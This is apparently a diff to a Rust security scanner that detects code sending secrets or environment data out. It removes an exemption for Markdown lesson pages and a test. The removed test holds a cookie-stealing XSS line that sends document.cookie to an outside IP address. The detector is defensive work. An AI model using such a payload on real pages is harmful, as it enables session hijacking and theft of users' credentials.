@@ -84,8 +84,7 @@ pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> (Vec<Evid
         }
         let new = program
             .into_iter()
-            .filter(|chain| !(selects && is_chosen(chain) || said.contains(&told(chain))))
-            .filter(|chain| !(is_page_of_text(path) && is_of_browser(chain)));
+            .filter(|chain| !(selects && is_chosen(chain) || said.contains(&told(chain))));
         found.extend(new.map(|chain| Evidence { chain, column: 0, loose: false }));
     }
     if let Some(form) = form(path, language) {
@@ -109,16 +108,6 @@ pub(super) fn selects(text: &str) -> bool {
 pub(super) fn is_chosen(chain: &Chain) -> bool {
     chain.rule == Rule::EnvironmentSent
         && chain.steps.iter().any(|step| step.fact == Fact::ReadEnvironment)
-}
-
-/// Whether a chain sends what a browser keeps for a page. Code blocks of lessons on web security show just that.
-fn is_of_browser(chain: &Chain) -> bool {
-    chain.rule == Rule::VariableSent
-        && chain.steps.first().is_some_and(|step| step.fact == Fact::ReadSecret)
-}
-
-fn is_page_of_text(path: &[u8]) -> bool {
-    matches!(language::extension(path).as_deref(), Some("md" | "mdx" | "markdown"))
 }
 
 /// What a chain says, and where.
@@ -362,13 +351,6 @@ mod tests {
         ] {
             assert_eq!(found("a.yml", text), [], "{text}");
         }
-    }
-
-    #[test]
-    fn what_a_browser_keeps_is_sent_by_pages_and_shown_by_lessons() {
-        let code = "new Image().src = 'http://203.0.113.9/?c=' + document.cookie";
-        let rules = |path: &str| evidence(path.as_bytes(), Language::JavaScript, code).0.len();
-        assert_eq!((rules("report.html"), rules("a.js"), rules("xss.md")), (1, 1, 0));
     }
 
     #[test]
